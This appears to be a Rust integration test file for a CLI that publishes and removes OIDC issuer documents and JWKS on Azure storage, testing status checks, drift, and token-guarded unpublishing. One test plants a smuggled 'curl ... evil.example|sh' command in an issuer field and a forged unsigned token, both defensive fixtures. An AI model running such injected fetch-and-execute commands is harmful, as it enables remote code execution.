@@ -1,0 +1,446 @@
+//! What is published, seen from both sides, and its guarded removal.
+
+use std::{
+    collections::BTreeSet,
+    process::{Command, Output},
+    sync::Mutex,
+};
+
+use crate::support::{
+    azurite::{Account, account},
+    encode,
+    entra::unsigned,
+    front::Front,
+    http::{get, response},
+    issuer::{command, stderr, stdout},
+    proxy::{Fault, Proxy},
+    recording,
+};
+use serde_json::{Value, json};
+use tempfile::TempDir;
+
+const ISSUER: &str = "https://issuer.example.com";
+
+fn issuer(account: &Account) -> Command {
+    let mut command = command();
+    command.env("AZURE_STORAGE_CONNECTION_STRING", account.connection_string());
+    command
+}
+
+fn publish(account: &Account, keys: &[u8]) {
+    let folder = TempDir::new().unwrap();
+    let file = folder.path().join("sa.pub");
+    std::fs::write(&file, keys.iter().map(|number| encode::numbered_pem(*number)).collect::<String>()).unwrap();
+    let output = issuer(account)
+        .args(["publish", "--no-fetch-back", "--issuer", ISSUER, file.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+}
+
+fn kid(number: u8) -> String {
+    encode::key_id(&encode::numbered_spki(number))
+}
+
+fn status(account: &Account, front: &str, more: &[&str]) -> Output {
+    issuer(account).args(["status", "--account", &account.name, "--published", front]).args(more).output().unwrap()
+}
+
+fn value(output: &Output) -> Value {
+    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {output:?}"))
+}
+
+#[test]
+fn status_shows_keys_with_their_times_the_website_and_that_both_sides_are_the_same() {
+    let account = account();
+    let front = Front::start(&account);
+    publish(&account, &[1, 2]);
+    publish(&account, &[2]);
+    let output = status(&account, &front.url(), &["-o", "json"]);
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    let value = value(&output);
+    assert_eq!(value["issuer"], ISSUER);
+    assert_eq!(value["stored"]["static_website"], "on");
+    let keys = value["stored"]["keys"].as_array().unwrap();
+    assert_eq!([&keys[0]["kid"], &keys[1]["kid"]], [&json!(kid(2)), &json!(kid(1))]);
+    assert_eq!(keys[0]["type"], "RSA 2048");
+    let time = |value: &Value| value.as_str().unwrap().parse::<issuer::Timestamp>().unwrap();
+    assert!(keys[0]["retired_since"].is_null() && time(&keys[0]["published_since"]) <= time(&keys[1]["retired_since"]));
+    let retained = time(&keys[1]["due"]).duration_since(time(&keys[1]["retired_since"]));
+    assert_eq!(retained, issuer::Timestamp::UNIX_EPOCH.duration_since("1969-12-30T00:00:00Z".parse().unwrap()));
+    assert_eq!(value["public"]["mismatch"], Value::Null);
+
+    let text = stdout(&status(&account, &front.url(), &["--retain", "1h"]));
+    assert!(text.contains("website  on\n") && text.contains("the same as what is stored, 2 keys"), "{text}");
+    assert!(text.contains(", retired 20") && text.contains("may go from"), "{text}");
+}
+
+#[test]
+fn status_says_where_the_public_reads_something_else() {
+    let account = account();
+    let front = Front::start(&account);
+    publish(&account, &[1]);
+    let old = get(&front.address, "/openid/v1/jwks").body;
+    publish(&account, &[1, 2]);
+    let proxy = Proxy::start(&front.address, move |seen| {
+        let old = response("200 OK", &["Content-Type: application/json"], &old);
+        if seen.path.ends_with("jwks") { Fault::Answer(old) } else { Fault::Pass }
+    });
+    let output = status(&account, &format!("http://{}", proxy.address), &[]);
+    assert_eq!(output.status.code(), Some(1));
+    assert!(stdout(&output).contains("not what is stored"), "{output:?}");
+    assert!(stderr(&output).contains("AADSTS7000272") && stderr(&output).contains(&kid(2)), "{output:?}");
+}
+
+#[test]
+fn status_says_that_the_website_is_off_and_that_nothing_is_published() {
+    let account = account();
+    let front = Front::start(&account);
+    let empty = status(&account, &front.url(), &[]);
+    assert_eq!(empty.status.code(), Some(1));
+    assert!(stderr(&empty).contains("no issuer is published at the root of $web"), "{empty:?}");
+    publish(&account, &[1]);
+    account.set_properties(
+        r#"<?xml version="1.0"?><StorageServiceProperties><StaticWebsite><Enabled>false</Enabled></StaticWebsite></StorageServiceProperties>"#,
+    );
+    let off = status(&account, &front.url(), &[]);
+    assert_eq!(off.status.code(), Some(1));
+    assert!(stdout(&off).contains("website  off"), "{off:?}");
+    assert!(stderr(&off).contains("the static website is off"), "{off:?}");
+    assert!(stderr(&off).contains("answered 404 with an HTML page; Entra will answer AADSTS90061"), "{off:?}");
+}
+
+#[test]
+fn a_content_encoding_is_drift_that_publish_removes() {
+    let account = account();
+    let front = Front::start(&account);
+    publish(&account, &[1]);
+    let folder = TempDir::new().unwrap();
+    let keys = folder.path().join("sa.pub");
+    std::fs::write(&keys, encode::numbered_pem(1)).unwrap();
+    let publish = |more: &[&str]| {
+        let args = ["publish", keys.to_str().unwrap(), "--issuer", ISSUER, "--published", &front.url(), "--wait", "0s"];
+        issuer(&account).args(args).args(more).output().unwrap()
+    };
+    assert_eq!(publish(&["--check"]).status.code(), Some(0));
+    for (path, document, code) in [
+        ("/$web/openid/v1/jwks", "JWKS", "AADSTS900612"),
+        ("/$web/.well-known/openid-configuration", "discovery document", "AADSTS501661"),
+    ] {
+        let properties = [
+            ("x-ms-blob-content-encoding", "gzip"),
+            ("x-ms-blob-content-type", "application/json"),
+            ("x-ms-blob-cache-control", "public, max-age=300"),
+        ];
+        assert_eq!(account.call("PUT", path, "comp=properties", &properties, b"").status(), 200);
+        let check = publish(&["--check"]);
+        assert_eq!(check.status.code(), Some(1), "{check:?}");
+        let named = format!("the published {document} has the Content-Encoding \"gzip\"");
+        assert!(stderr(&check).contains(&named), "{check:?}");
+        let seen = status(&account, &front.url(), &[]);
+        assert_eq!(seen.status.code(), Some(1), "{seen:?}");
+        let named = format!("the {document} has the Content-Encoding \"gzip\"");
+        assert!(stderr(&seen).contains(&named) && stderr(&seen).contains(code), "{seen:?}");
+
+        let published = publish(&[]);
+        assert_eq!(published.status.code(), Some(0), "{published:?}");
+        let blob = account.get_blob("$web", path.strip_prefix("/$web/").unwrap()).unwrap();
+        assert!(blob.header("content-encoding").unwrap_or_default().is_empty(), "{blob:?}");
+        assert_eq!(publish(&["--check"]).status.code(), Some(0));
+        assert_eq!(status(&account, &front.url(), &[]).status.code(), Some(0));
+    }
+}
+
+#[test]
+fn a_private_issuer_that_only_a_stored_document_names_is_not_asked() {
+    let account = account();
+    let front = Front::start(&account);
+    let keys = recording("rotation").path("sa.pub");
+    let publish = |more: &[&str]| {
+        issuer(&account)
+            .args(["publish", keys.to_str().unwrap(), "--for", "oidc", "--wait", "0s"])
+            .args(more)
+            .output()
+            .unwrap()
+    };
+    let output = publish(&["--issuer", &front.url()]);
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    let asked = front.asked();
+    assert!(!asked.is_empty());
+    let status = ["status", "--account", &account.name, "--for", "oidc"];
+    for output in [publish(&[]), publish(&["--check"]), issuer(&account).args(status).output().unwrap()] {
+        assert_eq!(output.status.code(), Some(1), "{output:?}");
+        assert!(stderr(&output).contains("because its host is a loopback address"), "{output:?}");
+        assert!(stderr(&output).contains("hint: pass --issuer URL"), "{output:?}");
+    }
+    assert_eq!(front.asked(), asked);
+    let named = issuer(&account).args(status).args(["--issuer", &front.url()]).output().unwrap();
+    assert_eq!(named.status.code(), Some(0), "{named:?}");
+}
+
+#[test]
+fn status_of_an_issuer_alone_is_what_the_public_reads() {
+    let account = account();
+    let front = Front::start(&account);
+    publish(&account, &[1, 2]);
+    let output = command().args(["status", ISSUER, "--published", &front.url(), "-o", "json"]).output().unwrap();
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    assert_eq!(value(&output)["stored"], Value::Null);
+    assert_eq!(value(&output)["public"]["keys"][1]["kid"], kid(2));
+    // Azure's variables name the other side, with an issuer as without one.
+    for args in [&["status", ISSUER][..], &["status", "--issuer", ISSUER], &["status"]] {
+        let output = issuer(&account).args(args).args(["--published", &front.url(), "-o", "json"]).output().unwrap();
+        assert_eq!(output.status.code(), Some(0), "{output:?}");
+        let value = value(&output);
+        assert_eq!(value["stored"]["keys"][1]["kid"], kid(2), "{args:?}");
+        assert_eq!(value["public"]["keys"][1]["kid"], kid(2), "{args:?}");
+    }
+    let other =
+        command().args(["status", "https://issuer.example.com/", "--published", &front.url()]).output().unwrap();
+    assert_eq!(other.status.code(), Some(1));
+    assert!(stderr(&other).contains("AADSTS700211"), "{other:?}");
+}
+
+#[test]
+fn status_of_a_directory_shows_the_same() {
+    let site = TempDir::new().unwrap();
+    let directory = site.path().to_str().unwrap();
+    let keys = recording("rotation").path("sa.pub");
+    let publish =
+        command().args(["publish", keys.to_str().unwrap(), "--issuer", ISSUER, "--directory", directory]).output();
+    assert!(publish.unwrap().status.success());
+    let output = command().args(["status", "--directory", directory, "--published", directory]).output().unwrap();
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    assert!(stdout(&output).contains("the same as what is stored, 2 keys"), "{output:?}");
+    let output = command().args(["status", "--directory", directory]).output().unwrap();
+    assert!(output.status.success() && stdout(&output).contains("not looked at"), "{output:?}");
+}
+
+/// A cluster with a key of its own, which is published.
+struct Cluster {
+    folder: TempDir,
+    key: rcgen::KeyPair,
+}
+
+impl Cluster {
+    fn new() -> Self {
+        let (folder, key) = (TempDir::new().unwrap(), rcgen::KeyPair::generate_for(&rcgen::PKCS_RSA_SHA256).unwrap());
+        std::fs::write(folder.path().join("sa.pub"), key.public_key_pem()).unwrap();
+        Self { folder, key }
+    }
+
+    fn publish(&self, account: &Account) {
+        let keys = self.folder.path().join("sa.pub");
+        let args = ["publish", "--no-fetch-back", "--issuer", ISSUER, keys.to_str().unwrap()];
+        let output = issuer(account).args(args).output().unwrap();
+        assert!(output.status.success(), "{output:?}");
+    }
+
+    /// A token it gave some seconds ago, with this issuer and so many seconds to live.
+    fn token(&self, issuer: &str, ago: i64, life: i64) -> String {
+        let issued = issuer::Timestamp::now().as_second() - ago;
+        let claims = json!({ "iss": issuer, "aud": ["a"], "sub": "system:serviceaccount:a:b", "iat": issued, "exp": issued + life });
+        let header = jsonwebtoken::Header {
+            typ: None,
+            kid: Some(encode::key_id(pem::parse(self.key.public_key_pem()).unwrap().contents())),
+            ..jsonwebtoken::Header::new(jsonwebtoken::Algorithm::RS256)
+        };
+        let key = jsonwebtoken::EncodingKey::from_rsa_der(&encode::inside_pkcs8(&self.key.serialize_der()));
+        let path = self.folder.path().join("token.jwt");
+        std::fs::write(&path, jsonwebtoken::encode(&header, &claims, &key).unwrap()).unwrap();
+        path.to_str().unwrap().to_owned()
+    }
+}
+
+#[test]
+fn unpublish_is_refused_unless_a_fresh_token_of_the_cluster_names_another_issuer_and_removes_discovery_first() {
+    let account = account();
+    let (cluster, stranger) = (Cluster::new(), Cluster::new());
+    cluster.publish(&account);
+    let unpublish =
+        |args: &[&str]| issuer(&account).args(["unpublish", "--account", &account.name]).args(args).output().unwrap();
+    let refused = |token: &str, sentence: &str| {
+        let output = unpublish(&["--token", token]);
+        assert_eq!(output.status.code(), Some(1), "{output:?}");
+        assert!(stderr(&output).contains(sentence) && stderr(&output).contains("; nothing was removed"), "{output:?}");
+        assert_eq!(account.list_blobs("$web").len(), 2);
+    };
+    refused(&cluster.token(ISSUER, 0, 600), "name the issuer \"https://issuer.example.com\" still");
+    for same_place in ["https://issuer.example.com/", "https://ISSUER.example.com", "https://issuer.example.com.:443/"]
+    {
+        refused(
+            &cluster.token(same_place, 0, 600),
+            &format!("name the issuer {same_place:?}, whose documents are these"),
+        );
+    }
+    let other = "https://other.example.com";
+    refused(&cluster.token(other, 700, 600), "the token expired at");
+    refused(&cluster.token(other, 3700, 31_536_000), "more than an hour ago");
+    refused(&cluster.token(other, -120, 600), "which is later than now");
+    refused(&stranger.token(other, 0, 600), "no key that is published here signed the token");
+    let (forged, issued) = (cluster.folder.path().join("forged.jwt"), issuer::Timestamp::now().as_second());
+    std::fs::write(&forged, unsigned(&json!({ "iss": other, "iat": issued, "exp": issued + 600 }))).unwrap();
+    refused(forged.to_str().unwrap(), "no key that is published here signed the token");
+    let usage = unpublish(&[]);
+    assert_eq!(usage.status.code(), Some(2), "neither a token nor --force: {usage:?}");
+
+    let proxy = Proxy::start(account.address(), |_| Fault::Pass);
+    let output = issuer(&account.through(&proxy.address))
+        .args(["unpublish", "--token", &cluster.token(other, 0, 600), "-o", "json"])
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    assert_eq!(value(&output)["removed"], json!([".well-known/openid-configuration", "openid/v1/jwks"]));
+    let deleted = proxy.exchanges().into_iter().filter(|exchange| exchange.seen.method == "DELETE");
+    let deleted: Vec<_> = deleted.map(|exchange| exchange.seen.path).collect();
+    assert!(deleted[0].ends_with("openid-configuration") && deleted[1].ends_with("jwks"), "{deleted:?}");
+    assert!(account.list_blobs("$web").is_empty());
+    for args in [&["--force", "--issuer", ISSUER][..], &["--force"]] {
+        let again = unpublish(args);
+        assert!(again.status.success() && stdout(&again).contains("nothing was there"), "{again:?}");
+    }
+}
+
+#[test]
+fn unpublish_with_force_asks_for_no_token_and_another_issuer_s_documents_are_left_alone() {
+    let account = account();
+    publish(&account, &[1]);
+    let other =
+        issuer(&account).args(["unpublish", "--force", "--issuer", "https://issuer.example.com/"]).output().unwrap();
+    assert_eq!(other.status.code(), Some(1));
+    assert!(
+        stderr(&other).contains("the documents there are those of the issuer \"https://issuer.example.com\""),
+        "{other:?}"
+    );
+    let output = issuer(&account).args(["unpublish", "--force"]).output().unwrap();
+    assert!(output.status.success(), "{output:?}");
+    assert!(account.list_blobs("$web").is_empty());
+}
+
+#[test]
+fn unpublish_removes_snapshots_only_where_it_is_told_to() {
+    let account = account();
+    publish(&account, &[1]);
+    let snapshot = account.call("PUT", "/$web/openid/v1/jwks", "comp=snapshot", &[], b"");
+    assert_eq!(snapshot.status(), 201, "{snapshot:?}");
+    let output = issuer(&account).args(["unpublish", "--force"]).output().unwrap();
+    assert_eq!(output.status.code(), Some(3), "{output:?}");
+    let said = stderr(&output);
+    assert!(said.contains("it has snapshots, which cannot stay without it"), "{said}");
+    assert!(said.contains("SnapshotsPresent"), "{said}");
+    assert!(said.contains("hint: pass --delete-snapshots"), "{said}");
+    let output = issuer(&account).args(["unpublish", "--force", "--delete-snapshots"]).output().unwrap();
+    assert!(output.status.success(), "{output:?}");
+    assert!(account.list_blobs("$web").is_empty());
+}
+
+#[test]
+fn an_unpublish_whose_answers_get_lost_or_is_cut_short_is_finished_by_the_next() {
+    let account = account();
+    publish(&account, &[1]);
+    let dropped = Mutex::new(BTreeSet::new());
+    let proxy = Proxy::start(account.address(), move |seen| {
+        let first = seen.method == "DELETE" && dropped.lock().unwrap().insert(seen.path.clone());
+        if first { Fault::DropAnswer } else { Fault::Pass }
+    });
+    let through = account.through(&proxy.address);
+    let output = issuer(&through).args(["unpublish", "--force", "-o", "json"]).output().unwrap();
+    assert!(output.status.success(), "{output:?}");
+    // Every deletion took effect and none was answered; it says what it did all the same.
+    assert_eq!(value(&output)["removed"], json!([".well-known/openid-configuration", "openid/v1/jwks"]));
+    assert!(account.list_blobs("$web").is_empty());
+
+    // The issuer is in the record of the JWKS, so the same command finishes.
+    publish(&account, &[1]);
+    assert!(account.delete_blob("$web", ".well-known/openid-configuration"));
+    let output = issuer(&account).args(["unpublish", "--force"]).output().unwrap();
+    assert!(output.status.success() && account.list_blobs("$web").is_empty(), "{output:?}");
+}
+
+/// Documents that other tools wrote are held against each other by what they say, not by their white space.
+#[test]
+fn status_of_documents_that_something_else_wrote_is_what_they_say() {
+    let run = recording("rotation");
+    let site = TempDir::new().unwrap();
+    let directory = site.path().to_str().unwrap();
+    let write = |path: &str, args: &[&str]| {
+        let file = site.path().join(path);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        let output = command().args(args).arg(run.path("sa.pub")).output().unwrap();
+        std::fs::write(file, output.stdout).unwrap();
+    };
+    write(".well-known/openid-configuration", &["discovery", "--issuer", ISSUER]);
+    write("openid/v1/jwks", &["jwks"]);
+    let status = || command().args(["status", "--directory", directory, "--published", directory]).output().unwrap();
+    let output = status();
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    assert!(stdout(&output).contains("published by something else"), "{output:?}");
+
+    // A discovery document that points elsewhere is not about the JWKS that happens to be there.
+    for (jwks_uri, code, sentence) in [
+        ("https://issuer.example.com/keys.json", 1, "there is no JWKS"),
+        ("https://keys.example.com/jwks", 1, "the jwks_uri is \"https://keys.example.com/jwks\", not below the issuer"),
+    ] {
+        write(".well-known/openid-configuration", &["discovery", "--issuer", ISSUER, "--jwks-uri", jwks_uri]);
+        let output = status();
+        assert_eq!(output.status.code(), Some(code), "{output:?}");
+        assert!(stderr(&output).contains(sentence), "{output:?}");
+    }
+}
+
+#[test]
+fn documents_that_name_no_issuer_of_this_place_are_not_said_to_be_gone() {
+    for discovery in [
+        "garbage",
+        r#"{"issuer":"https://cdn.example.com/clusters/a","jwks_uri":"https://cdn.example.com/clusters/a/openid/v1/jwks"}"#,
+    ] {
+        let account = account();
+        account.create_container("$web");
+        account.put_blob("$web", ".well-known/openid-configuration", discovery.as_bytes(), &[]);
+        for command in [&["unpublish", "--force"][..], &["status", "--account", &account.name]] {
+            let output = issuer(&account).args(command).output().unwrap();
+            assert_eq!(output.status.code(), Some(1), "{output:?}");
+            assert!(stderr(&output).contains("do not name an issuer that is published there"), "{output:?}");
+        }
+        assert_eq!(account.list_blobs("$web").len(), 1);
+    }
+}
+
+#[test]
+fn unpublish_removes_a_directory_s_documents_and_their_record() {
+    let site = TempDir::new().unwrap();
+    let directory = site.path().to_str().unwrap();
+    let keys = recording("rotation").path("sa.pub");
+    let publish =
+        command().args(["publish", keys.to_str().unwrap(), "--issuer", ISSUER, "--directory", directory]).output();
+    assert!(publish.unwrap().status.success());
+    let output = command().args(["unpublish", "--force", "--directory", directory]).output().unwrap();
+    assert!(output.status.success(), "{output:?}");
+    for folder in [".well-known", "openid/v1"] {
+        assert_eq!(std::fs::read_dir(site.path().join(folder)).unwrap().count(), 0);
+    }
+}
+
+/// Whoever can write the document must not write a command that somebody pastes.
+#[test]
+fn an_issuer_of_a_stored_document_is_no_command_to_copy() {
+    let site = TempDir::new().unwrap();
+    let keys = recording("rotation").path("sa.pub").to_str().unwrap().to_owned();
+    let directory = site.path().to_str().unwrap();
+    let publish = command().args(["publish", &keys, "--issuer", ISSUER, "--directory", directory]).output().unwrap();
+    assert!(publish.status.success(), "{publish:?}");
+    let document = site.path().join(".well-known/openid-configuration");
+    let text = std::fs::read_to_string(&document).unwrap();
+    for (issuer, shown) in [
+        ("https://issuer.example.com;curl$IFS-s${IFS}evil.example|sh", "--issuer URL,"),
+        ("https://other.example.com/a", "--issuer https://other.example.com/a,"),
+    ] {
+        let changed = text.replace(&format!("\"issuer\":\"{ISSUER}\""), &format!("\"issuer\":\"{issuer}\""));
+        std::fs::write(&document, changed).unwrap();
+        let output = command().args(["status", "--directory", directory, "--issuer", ISSUER]).output().unwrap();
+        assert_eq!(output.status.code(), Some(1));
+        let told = stderr(&output);
+        let hint = told.lines().find(|line| line.starts_with("hint: ")).unwrap_or_else(|| panic!("{told}"));
+        assert!(hint.contains(shown) && !hint.contains("curl"), "{told}");
+    }
+}
